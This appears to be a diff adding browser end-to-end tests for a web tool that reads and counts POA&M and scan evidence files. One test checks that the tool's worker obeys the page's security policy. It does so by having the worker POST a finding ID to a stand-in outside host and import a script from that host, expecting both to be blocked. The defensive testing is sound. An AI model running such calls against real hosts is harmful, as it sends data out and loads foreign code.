@@ -1,0 +1,214 @@
+import { describe, expect, it } from 'vitest';
+import { accessibilityFaults } from '../../support/accessibility.ts';
+import { visitSite } from '../../support/browser.ts';
+import { builtSite } from '../../support/built-site.ts';
+import { manyItems, openSheet, openWorkbookOf } from '../../support/evidence/built-items.ts';
+import { buildCsv } from '../../support/evidence/csv-builder.ts';
+import {
+  counted,
+  downloadedSample,
+  fileEntry,
+  giveFiles,
+  giveSample,
+  lateHigh,
+  numberEntry,
+  numberOf,
+  scan,
+} from '../../support/evidence-journey.ts';
+import { useTool } from '../../support/tool-journey.ts';
+import { startWatchingProxy } from '../../support/watching-proxy.ts';
+
+const visit = visitSite(builtSite());
+
+describe('files that are not read at once', () => {
+  it('are refused in words, and the others stay', () =>
+    useTool(visit, 'triggers', async ({ page }) => {
+      const sample = await downloadedSample(page);
+      const half = Buffer.from(sample.content).subarray(0, Math.floor(sample.content.length / 2));
+      const locked = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
+      await giveFiles(
+        page,
+        sample,
+        { name: 'locked.xlsx', content: locked },
+        { name: 'half.xlsx', content: half },
+        { name: 'nothing.csv', content: '' },
+        { name: 'report.xls', content: '<!DOCTYPE html><html><body><table></table></body></html>' },
+      );
+      await page.getByRole('status').getByText('The files are read and counted. 4 not read.').waitFor();
+      const told = (name: string) => fileEntry(page, name).locator('.refused').innerText();
+      expect(await told('locked.xlsx')).toMatch(
+        /^Not read\. .*older \.xls form, or a locked one\..*without a password/,
+      );
+      expect(await told('half.xlsx')).toMatch(/^Not read\. It ends too early/);
+      expect(await told('nothing.csv')).toBe('Not read. nothing.csv is empty.');
+      expect(await told('report.xls')).toContain('report.xls is a web page (HTML).');
+      for (const name of ['locked.xlsx', 'half.xlsx']) expect(await told(name)).not.toContain('unforeseen');
+      expect(await numberOf(page, lateHigh)).toBe('6');
+      await page.getByRole('button', { name: 'Remove half.xlsx' }).click();
+      await expect.poll(() => fileEntry(page, 'half.xlsx').count()).toBe(0);
+      await page.getByRole('button', { name: 'Remove sample-poam.xlsx' }).click();
+      await expect.poll(() => page.locator('.numbers').count()).toBe(0);
+      expect(await page.locator('.files > li').count()).toBe(3);
+    }));
+
+  it('ask at the file what they leave open, and are read once it is answered', () =>
+    useTool(visit, 'triggers', async ({ page }) => {
+      const items = manyItems(5).map((item) => ({
+        ...item,
+        'Original Detection Date': '03/04/2026',
+        'Scheduled Completion Date': '05/06/2026',
+        'Status Date': '05/06/2026',
+      }));
+      await giveFiles(page, { name: 'poam.csv', content: buildCsv(openSheet(items)) });
+      const entry = fileEntry(page, 'poam.csv');
+      await entry.getByText('Which is it?').waitFor();
+      await entry.getByRole('button', { name: 'Read it so' }).click();
+      await entry.getByText('Choose one of the answers.').waitFor();
+      await entry.getByLabel('Open items').check();
+      await entry.getByRole('button', { name: 'Read it so' }).click();
+      await entry.getByText('Which number is the month?').waitFor();
+      await entry.getByLabel('The first is the day: 3 April 2026').check();
+      await entry.getByRole('button', { name: 'Read it so' }).click();
+      await entry.getByText('5 open items').waitFor();
+      await page.getByLabel('Count ages as of').fill('2026-05-29');
+      await expect.poll(() => numberOf(page, lateHigh)).toBe('2');
+      await page.getByRole('button', { name: 'Show 5 items: all items of all files' }).click();
+      const found = page.locator('.evidence-list tbody tr').first();
+      await expect.poll(() => found.innerText()).toContain('2026-04-03');
+    }));
+
+  it('count as of one month where they tell no date, until each is given its own, by the keyboard alone', () =>
+    useTool(visit, 'triggers', async ({ page }) => {
+      const [july, august] = ['open-july.csv', 'open-august.csv'] as const;
+      const content = (amount: number) => buildCsv(openSheet(manyItems(amount)), { showDate: () => '2026-05-14' });
+      await giveFiles(page, { name: july, content: content(3) }, { name: august, content: content(2) });
+      const merged = page.getByText(`${july} and ${august}: without a date, so taken as of the month that is counted.`);
+      await merged.waitFor();
+      const toField = async (name: string) => {
+        await page.getByRole('button', { name: `Remove ${name}` }).focus();
+        await page.keyboard.press('Tab');
+        await page.keyboard.press('Enter');
+        await fileEntry(page, name).getByLabel('Date of this file').waitFor();
+        await page.keyboard.press('Tab');
+      };
+      const date = async (name: string, typed: string, said: string) => {
+        await toField(name);
+        await page.keyboard.type(typed);
+        await page.keyboard.press('Enter');
+        await fileEntry(page, name).getByText(`dated ${said}, as you said`).waitFor();
+        expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(name);
+      };
+      await date(july, '07312026', '31 July 2026');
+      await date(august, '08312026', '31 August 2026');
+      const history = page.getByText('POA&M of 31 August 2026, against that of 31 July 2026:');
+      await history.waitFor();
+      expect(await page.getByLabel('Count ages as of').inputValue()).toBe('2026-08-31');
+      expect(await merged.count()).toBe(0);
+      await toField(august);
+      await page.keyboard.press('Backspace');
+      await page.keyboard.press('Enter');
+      await fileEntry(page, august).getByText('This is not a day of the calendar yet.').waitFor();
+      expect(await accessibilityFaults(page, '.evidence')).toEqual([]);
+      for (let part = 0; part < 2; part += 1) {
+        await page.keyboard.press('ArrowRight');
+        await page.keyboard.press('Backspace');
+      }
+      await page.keyboard.press('Enter');
+      await fileEntry(page, august).getByText(', without a date.').waitFor();
+      await expect.poll(() => history.count()).toBe(0);
+    }));
+
+  it('stop when they are called off, and the others are read', () =>
+    useTool(visit, 'triggers', async ({ page }) => {
+      await giveFiles(page, { name: 'large.xlsx', content: openWorkbookOf(manyItems(40_000)) });
+      await page.getByRole('button', { name: 'Cancel reading large.xlsx' }).click();
+      await fileEntry(page, 'large.xlsx').getByText('Reading was canceled.').waitFor();
+      expect(await page.locator('.numbers').count()).toBe(0);
+      await giveSample(page);
+      expect(await numberOf(page, lateHigh)).toBe('6');
+      await fileEntry(page, 'large.xlsx').getByRole('button', { name: 'Read it after all' }).waitFor();
+    }));
+});
+
+describe('what the files hold', () => {
+  it('goes nowhere while they are read, counted, listed and used', async () => {
+    const proxy = await startWatchingProxy();
+    try {
+      await useTool(
+        visit,
+        'triggers',
+        async ({ page }) => {
+          const sample = await downloadedSample(page);
+          await page.waitForLoadState('networkidle');
+          proxy.requests.length = 0;
+          await giveFiles(page, { ...sample, name: 'secret-name.xlsx' }, scan);
+          await counted(page);
+          await numberEntry(page, lateHigh).getByRole('button', { name: 'Show the 6 items' }).click();
+          await page.locator('.evidence-list table').waitFor();
+          await page.getByRole('button', { name: 'Use these numbers' }).click();
+          await page.getByRole('button', { name: 'Fill these in' }).click();
+          await page.getByText('The numbers are filled in, and').waitFor();
+        },
+        proxy.options,
+      );
+    } finally {
+      await proxy.close();
+    }
+    // Chromium itself asks its maker how to fill forms, of any site with fields; the site has no part in it.
+    const requests = proxy.requests.filter(({ url }) => url.host !== 'content-autofill.googleapis.com');
+    const addresses = requests.map(({ url }) => url.href);
+    // What the two workers load to read and to count: nothing of them escaped the proxy.
+    for (const part of ['evidence-worker', 'evidence-store', 'read-workbook', 'read-nessus']) {
+      expect(addresses.join('\n')).toContain(`${visit.origin}/_astro/workers/${part}`);
+    }
+    const others = requests.filter(
+      ({ method, url, bytes }) =>
+        method !== 'GET' ||
+        bytes() > 0 ||
+        url.origin !== visit.origin ||
+        !/^\/_astro\/(?:workers\/)?[\w.-]+\.(?:js|css)$/.test(url.pathname) ||
+        url.search !== '',
+    );
+    expect(others.map(({ method, url }) => `${method} ${url.href}`)).toEqual([]);
+    for (const secret of ['secret', 'scan.nessus', 'V-101', 'web-1', 'silent']) {
+      expect(addresses.filter((address) => address.includes(secret))).toEqual([]);
+    }
+  });
+});
+
+describe('the workers that read and count', () => {
+  it('go by the policy of the page, which forbids them to ask another site for anything', async () => {
+    const { context } = await visit.profile();
+    try {
+      const page = await context.newPage();
+      await page.goto(`${visit.origin}/tools/triggers/`);
+      await giveSample(page);
+      const [worker, ...others] = page.workers();
+      expect(others).toEqual([]);
+      // As text: what compiles the tests would change the import into one of its own.
+      const refused = await worker?.evaluate<readonly string[]>(`(async () => {
+        const directives = [];
+        addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+        await fetch('https://elsewhere.example/', { method: 'POST', body: 'V-101' }).catch(() => {});
+        await import('https://elsewhere.example/a.js').catch(() => {});
+        return directives;
+      })()`);
+      expect(refused?.map((directive) => directive.replace('-elem', ''))).toEqual(['connect-src', 'script-src']);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('are started by their address where a host forbids to start them from text', () =>
+    useTool(visit, 'triggers', async ({ page, faults }) => {
+      await page.evaluate(() => {
+        URL.createObjectURL = () => `${location.origin}/nothing-there.js`;
+      });
+      const sample = await downloadedSample(page);
+      await giveFiles(page, sample);
+      await counted(page);
+      expect(await numberOf(page, lateHigh)).toBe('6');
+      // That nothing is at the address in its place is the only fault.
+      expect(faults.splice(0).filter((fault) => !fault.includes('nothing-there.js'))).toEqual([]);
+    }));
+});
